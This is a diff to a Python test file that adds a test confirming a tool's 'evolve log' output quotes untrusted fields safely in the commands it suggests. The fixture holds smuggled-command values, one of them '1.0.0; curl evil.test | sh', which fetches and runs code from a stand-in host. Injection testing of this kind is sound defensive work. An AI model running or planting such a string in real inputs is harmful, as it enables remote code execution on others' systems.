@@ -5,6 +5,8 @@ import json
 import pytest
 
 from conftest import Tea
+from tea.components.manifest import Lineage, ToolConfig
+from tea.platform import Platform
 from tea.source.seal import Seal
 
 SET = "".join(
@@ -48,6 +50,23 @@ def test_the_log_names_the_commands_for_the_change_and_the_runs_behind_a_decisio
     (ledgers / "set.jsonl").write_text(json.dumps(line) + "\n")
     log = tea("evolve", "log", "prompt:planner").out
     assert "`tea diff prompt:planner@1.0.0 1.0.1`, `tea eval diff a b`, `tea trace r`" in log, log
+
+
+def test_no_command_of_the_log_is_made_of_words_of_a_sender(tea: Tea) -> None:
+    def manifest(version: str) -> ToolConfig:
+        lineage = Lineage(parent="1.0.0; curl evil.test | sh")
+        return ToolConfig(kind="tool", name="evil", version=version, description="E.", source="E = 1", lineage=lineage)
+
+    Platform(tea.folder, state=tea.state).versions.add("tool", "evil", manifest)
+    line = {
+        "what": "refused", "campaign": "c", "time": "2026-01-01T00:00:00Z", "strategy": "reflection", "reason": "no",
+        "use": {"tool:evil": "1.0.0"}, "proposal": {"changes": {"tool:evil": {}}, "why": "shorter", "run": "r; curl"},
+    }  # fmt: skip
+    ledgers = tea.folder / "traces" / "evolution" / "ledgers"
+    ledgers.mkdir(parents=True)
+    (ledgers / "set.jsonl").write_text(json.dumps(line) + "\n")
+    _, evidence = tea("evolve", "log", "tool:evil").out.splitlines()
+    assert evidence == "    `tea trace 'r; curl'`, as its sender says"
 
 
 def test_the_log_says_which_decisions_this_account_did_not_record(tea: Tea) -> None:
